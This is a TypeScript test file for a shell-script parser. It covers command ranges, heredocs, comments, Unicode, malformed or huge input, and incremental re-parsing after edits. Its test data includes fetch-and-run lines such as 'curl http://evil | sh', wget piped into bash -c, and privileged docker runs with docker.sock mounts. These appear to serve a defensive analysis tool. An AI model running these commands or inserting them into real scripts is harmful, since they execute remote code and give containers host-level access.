/**
 * Whole shell scripts (parseShellScriptFile): commands with ranges in the file across CRLF, heredocs, comments,
 * quotes, non-ASCII text; hostile input ends in commands, a stop, or nothing — never a throw; and the chunks an
 * edit keeps give exactly what parsing the new text from scratch gives.
 */
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parseShellScriptFile, ShellScripts, MAX_CHUNK, type ShellScriptFile } from '../../server/src/shell/script';
import type { Range, ShellCommand } from '../../shared-rules/src/model';
import { applyEdits, offsetAt } from '../helpers/edits';

let n = 0;
/** A fresh file name per parse: no test sees another's cached chunks unless it means to. */
function parse(text: string): ShellScriptFile {
  return parseShellScriptFile(`/w/script-${n++}.sh`, text);
}

function textAt(text: string, range: Range): string {
  return text.slice(offsetAt(text, range.start), offsetAt(text, range.end));
}

function show(cmd: ShellCommand): string {
  const sub = cmd.substitution ? ` <${cmd.substitution.kind} of ${cmd.substitution.parent.words[0].text}>` : '';
  const pipe = cmd.pipeline.length > 1 ? ` [${cmd.pipelineIndex + 1}/${cmd.pipeline.length}]` : '';
  return `${cmd.words.map((w) => w.text).join(' ')}${pipe}${sub}`;
}

/** Every word's range covers its text as written (quotes aside). */
function assertRanges(text: string, result: ShellScriptFile): void {
  for (const c of result.commands) {
    for (const w of c.words) {
      const written = textAt(text, w.source.range);
      if (w.literal && !/['"\\]/.test(written)) assert.equal(written, w.text, `word ${w.text}`);
    }
  }
}

describe('parseShellScriptFile', () => {
  test('commands, pipelines and substitutions of a script, with their lines and columns', () => {
    const text = [
      '#!/usr/bin/env bash',
      'set -euo pipefail',
      'TAG="$(git rev-parse --short HEAD)"',
      'curl -fsSL https://get.example.com | sh',
      'if [ -n "$CI" ]; then',
      '  docker run --rm -v /var/run/docker.sock:/var/run/docker.sock "img:$TAG"',
      'fi',
      '',
    ].join('\n');
    const r = parse(text);
    assert.equal(r.stopped, undefined);
    assert.deepEqual(r.commands.map(show), [
      'set -euo pipefail',
      'git rev-parse --short HEAD',
      'curl -fsSL https://get.example.com [1/2]',
      'sh [2/2]',
      '[ -n $CI ]',
      'docker run --rm -v /var/run/docker.sock:/var/run/docker.sock img:$TAG',
    ]);
    const docker = r.commands[5];
    assert.deepEqual(docker.words[0].source.range, { start: { line: 5, character: 2 }, end: { line: 5, character: 8 } });
    assert.equal(textAt(text, docker.words[4].source.range), '/var/run/docker.sock:/var/run/docker.sock');
    assertRanges(text, r);
  });

  test('CRLF: words end before the \\r, ranges are those of the file, removeWords edits keep the line break', () => {
    const text = 'echo one\r\ndocker run --privileged \\\r\n  -d img\r\ncat <<EOF\r\ncurl x | sh\r\nEOF\r\necho done\r\n';
    const r = parse(text);
    assert.equal(r.stopped, undefined);
    assert.deepEqual(r.commands.map(show), ['echo one', 'docker run --privileged -d img', 'cat', 'echo done']);
    const docker = r.commands[1];
    assert.equal(
      docker.words.every((w) => !w.text.includes('\r')),
      true,
    );
    assert.deepEqual(docker.words[3].source.range, { start: { line: 2, character: 2 }, end: { line: 2, character: 4 } });
    const edits = docker.removeWords!(2, 2)!;
    assert.equal(applyEdits(text, edits), 'echo one\r\ndocker run \\\r\n  -d img\r\ncat <<EOF\r\ncurl x | sh\r\nEOF\r\necho done\r\n');
    assertRanges(text, r);
  });

  test('a lone \\r ends a line too', () => {
    const r = parse('echo a\rcurl x | sh\r');
    assert.deepEqual(r.commands.map(show), ['echo a', 'curl x [1/2]', 'sh [2/2]']);
    assert.equal(r.commands[1].words[0].source.range.start.line, 1);
  });

  test('heredocs: data is not commands; a heredoc fed to a shell is a script; <<- strips tabs', () => {
    const text = [
      'cat > /etc/app.conf <<EOF',
      'curl http://evil | sh',
      'value=$(hostname)',
      'EOF',
      'bash <<-SCRIPT',
      '\tcurl -k https://example.com/install.sh | sh',
      '\tSCRIPT',
      "cat <<'EOF'",
      '$(not run)',
      'EOF',
      'echo after',
      '',
    ].join('\n');
    const r = parse(text);
    assert.equal(r.stopped, undefined);
    assert.deepEqual(r.commands.map(show), [
      'cat',
      'hostname <command of cat>',
      'bash',
      'curl -k https://example.com/install.sh [1/2]',
      'sh [2/2]',
      'cat',
      'echo after',
    ]);
    assert.deepEqual(r.commands[3].words[1].source.range, { start: { line: 5, character: 6 }, end: { line: 5, character: 8 } });
    assertRanges(text, r);
  });

  test('comments and quoted text are not commands', () => {
    const text = '# curl http://x | sh\necho "curl x | sh" \'wget -O- y | bash\' # curl z | sh\n  # docker run --privileged img\n';
    const r = parse(text);
    assert.deepEqual(r.commands.map(show), ['echo curl x | sh wget -O- y | bash']);
    assert.equal(r.commands[0].words.length, 3);
  });

  test('Japanese and emoji text: ranges in UTF-16 code units', () => {
    const text = 'echo "日本語のテキスト 🎉🎉" && docker run -p 80:80 画像/アプリ:1.0 # コメント 👍\nprintf "%s" "🐳" | sh\n';
    const r = parse(text);
    assert.deepEqual(r.commands.map(show), [
      'echo 日本語のテキスト 🎉🎉',
      'docker run -p 80:80 画像/アプリ:1.0',
      'printf %s 🐳 [1/2]',
      'sh [2/2]',
    ]);
    const docker = r.commands[1];
    const at = text.indexOf('docker');
    assert.deepEqual(docker.words[0].source.range, { start: { line: 0, character: at }, end: { line: 0, character: at + 6 } });
    assert.equal(textAt(text, docker.words[4].source.range), '画像/アプリ:1.0');
    assert.equal(textAt(text, r.commands[2].words[2].source.range), '"🐳"');
    const image = docker.words[4];
    assert.deepEqual(image.rangeOf!(0, 2), {
      start: { line: 0, character: text.indexOf('画像') },
      end: { line: 0, character: text.indexOf('画像') + 2 },
    });
    assertRanges(text, r);
  });

  test('sh -c scripts and $(...) inside a script', () => {
    const r = parse(`sh -c 'curl -fsSL https://x | bash'\nbash -c "$(wget -qO- https://y)"\n`);
    assert.deepEqual(r.commands.map(show), [
      'sh -c curl -fsSL https://x | bash',
      'curl -fsSL https://x [1/2]',
      'bash [2/2]',
      'wget -qO- https://y <command of bash>',
      'bash -c $(wget -qO- https://y)',
    ]);
  });

  test('an unterminated quote: the commands before it, nothing after it, and where it stopped', () => {
    const text = 'echo one\n\necho "two\n\ncurl http://x | sh\n\necho three\n';
    const r = parse(text);
    assert.deepEqual(r.commands.map(show), ['echo one']);
    assert.equal(r.stopped?.reason, 'syntax-error');
    assert.equal(r.stopped?.line, 2);
    assert.match(r.stopped!.message, /quote/);
  });

  test('other syntax errors stop at the chunk that holds them; an open `if` swallows nothing', () => {
    const r = parse('a\n\nif true; then\n  b\n\nc\n');
    assert.deepEqual(r.commands.map(show), ['a']);
    assert.equal(r.stopped?.line, 2);
    const closed = parse('a\n\nif true; then\n\n  b\n\nfi\n\nc\n');
    assert.deepEqual(closed.commands.map(show), ['a', 'true', 'b', 'c']);
    assert.equal(closed.stopped, undefined);
  });

  test('a 1 MB line: the commands before it, and a stop that says it is too long', () => {
    const text = 'echo before\n\n' + 'echo' + ' word'.repeat(200_000) + '\n\necho after\n';
    const r = parse(text);
    assert.deepEqual(r.commands.map(show), ['echo before']);
    assert.equal(r.stopped?.reason, 'too-long');
    assert.equal(r.stopped?.line, 2);
    assert.ok(MAX_CHUNK < text.length);
  });

  test('a giant word (an inline blob) is shortened, not refused, and keeps its range', () => {
    const blob = 'A'.repeat(300_000);
    const text = `echo ${blob} | base64 -d > /tmp/x\ncurl https://x | sh\n`;
    const r = parse(text);
    assert.equal(r.stopped, undefined);
    assert.deepEqual(
      r.commands.map((c) => c.words[0].text),
      ['echo', 'base64', 'curl', 'sh'],
    );
    assert.deepEqual(r.commands[0].words[1].source.range, {
      start: { line: 0, character: 5 },
      end: { line: 0, character: 5 + blob.length },
    });
  });

  test('binary bytes with a shebang: nothing, and a stop that says so', () => {
    const bytes = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256));
    const r = parse('#!/bin/sh\n' + bytes.toString('latin1'));
    assert.deepEqual(r.commands, []);
    assert.equal(r.stopped?.reason, 'binary');
    // Without NUL bytes, garbage is a syntax error (or a few odd commands), never a throw.
    const noNul = parse('#!/bin/sh\n' + Buffer.from(bytes.filter((b) => b !== 0)).toString('utf8'));
    assert.ok(Array.isArray(noNul.commands));
  });

  test('hostile nesting and sizes end in commands or a stop, never a throw', () => {
    const deep = parse('echo ' + '$(echo '.repeat(10_000) + 'x' + ')'.repeat(10_000) + '\n');
    assert.ok(deep.commands.length > 0 || deep.stopped);
    const braces = parse('{ '.repeat(5000) + 'a; ' + '}; '.repeat(5000) + '\n');
    assert.ok(braces.commands.length > 0 || braces.stopped);
    const quotes = parse('"'.repeat(100_001));
    assert.ok(quotes.stopped);
    assert.deepEqual(quotes.commands, []);
  });

  test('10,000 docker run lines are 10,000 commands', () => {
    const lines = Array.from(
      { length: 10_000 },
      (_, i) => `docker run --rm -d --name app${i} -p 127.0.0.1:${8000 + (i % 1000)}:80 -v "$PWD:/src" img:${i}`,
    );
    const text = lines.join('\n') + '\n';
    const r = parse(text);
    assert.equal(r.stopped, undefined);
    assert.equal(r.commands.length, 10_000);
    const last = r.commands[9999];
    assert.equal(last.words.at(-1)!.text, 'img:9999');
    assert.equal(last.words[0].source.range.start.line, 9999);
  });

  test('an empty script, blank lines and only comments', () => {
    for (const text of ['', '\n\n\n', '# only a comment\n#!/bin/sh\n', '   \t  \n']) {
      const r = parse(text);
      assert.deepEqual(r.commands, []);
      assert.equal(r.stopped, undefined);
    }
  });
});

describe('parseShellScriptFile after edits', () => {
  // One cache, as one front end keeps: each file's previous parse is reused for its next version.
  const scripts = new ShellScripts();
  /** Commands as comparable data: words with their ranges, substitution and pipeline shape, removal edits. */
  function snapshot(r: ShellScriptFile): unknown {
    return {
      stopped: r.stopped,
      commands: r.commands.map((c) => ({
        words: c.words.map((w) => [w.text, w.literal, w.source.range, w.rangeOf?.(0, Math.min(1, w.text.length))]),
        pipeline: [c.pipelineIndex, c.pipeline.length, c.pipeline[c.pipelineIndex] === c],
        substitution: c.substitution && [c.substitution.kind, show(c.substitution.parent)],
        remove: c.removeWords?.(0, 0),
      })),
    };
  }

  function script(blocks: number): string {
    const out = ['#!/bin/bash', 'set -eu', ''];
    for (let i = 0; i < blocks; i++) {
      out.push(
        `# block ${i}`,
        `deploy_${i}() {`,
        `  docker run -d --name "s${i}" \\`,
        `    -p "127.0.0.1:${8000 + i}:80" img:${i}`,
        '}',
        `if [ "$X" = ${i} ]; then deploy_${i}; else echo "skip ${i}"; fi`,
        `cat > /tmp/${i}.env <<EOF`,
        `A=${i}`,
        '',
        `B=$(date)`,
        'EOF',
        `for f in a b; do curl -fsSL "https://x/${i}/$f" | sh; done`,
        i % 3 === 0 ? `echo 'done ${i}'` : `x=${i}; y=$((x + 1))`,
        '',
      );
    }
    return out.join('\n');
  }

  // Edits that break and mend the script: quotes, heredocs, continuations, keywords, line breaks.
  const inserts = [
    'x',
    '"',
    "'",
    '\\',
    '\n',
    '\n\n',
    ' <<EOF',
    'EOF\n',
    'if true; then',
    'fi',
    '$(',
    ')',
    '`',
    '&&',
    '|',
    '#',
    '{',
    '}',
    'é🎉',
  ];

  test('random edits: the cached result is the one parsing the text from scratch gives', () => {
    let seed = 12345;
    const random = (k: number) => {
      seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
      return seed % k;
    };
    const file = '/w/edited.sh';
    let text = script(30);
    scripts.parse(file, text);
    for (let step = 0; step < 400; step++) {
      const at = random(text.length + 1);
      if (random(3) === 0) {
        text = text.slice(0, at) + text.slice(Math.min(text.length, at + 1 + random(40)));
      } else {
        text = text.slice(0, at) + inserts[random(inserts.length)] + text.slice(at);
      }
      // Now and then, back to a valid script, as when the edit is finished.
      if (step % 50 === 49) text = script(30 + random(5));
      const cached = scripts.parse(file, text);
      const fresh = parseShellScriptFile('/w/edited.sh', text);
      assert.deepEqual(snapshot(cached), snapshot(fresh), `step ${step}`);
    }
  });

  test('typing inside one block parses that block again and keeps the others', () => {
    const file = '/w/typing.sh';
    const text = script(40);
    const before = scripts.parse(file, text);
    const at = text.indexOf('img:20') + 6;
    const after = scripts.parse(file, text.slice(0, at) + 'x' + text.slice(at));
    const changed = after.commands.filter((c, i) => c !== before.commands[i]);
    // Only the edited chunk's commands are new objects: the others are the very same (kept, not re-parsed).
    assert.ok(changed.length > 0 && changed.length < 20, `${changed.length} commands changed`);
    assert.ok(after.commands.some((c) => c.words.some((w) => w.text === 'img:20x')));
  });

  test('a line inserted above moves the commands below it by one line', () => {
    const file = '/w/moved.sh';
    const text = script(10);
    const before = scripts.parse(file, text);
    const after = scripts.parse(file, '\n' + text);
    assert.equal(after.commands.length, before.commands.length);
    after.commands.forEach((c, i) =>
      assert.equal(c.words[0].source.range.start.line, before.commands[i].words[0].source.range.start.line + 1),
    );
  });
});
